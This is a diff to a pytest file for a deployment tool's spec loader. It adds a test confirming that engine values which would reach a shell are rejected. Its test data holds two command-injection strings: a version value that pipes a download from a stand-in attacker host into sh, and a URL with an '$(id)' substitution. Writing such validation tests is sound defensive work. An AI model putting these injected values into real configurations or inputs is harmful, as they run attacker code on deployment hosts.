@@ -153,3 +153,17 @@ def test_default_and_requirement_for_the_managers(tmp_path):
     managers = _scripts(rendered["control.aws-main.us-east-1"])["manager"]
     assert ("/opt/ccds/bin/pip install -q --disable-pip-version-check --index-url https://p.example/simple "
             "'ccds[aws,postgres]<0.2,>=0.1'\n") in managers
+
+
+@pytest.mark.parametrize("engine, field", [
+    ('{kind: mediamtx, version: "1.15.0; curl evil.example|sh"}', "engine.version"),
+    ('{kind: red5pro, license_env: R5_KEY, archive_url: "https://x.example/r5.zip$(id)"}', "engine.archive_url"),
+])
+def test_engine_values_reaching_the_shell_are_validated(tmp_path, engine, field):
+    path = tmp_path / "ccds.yaml"
+    path.write_text(SPEC.replace("providers:", f"engine: {engine}\nproviders:") + "  {}\n")
+    with pytest.raises(SpecError) as err:
+        load_spec(path)
+    (d,) = err.value.diagnostics
+    assert d.field == field and d.line == 3, d
+
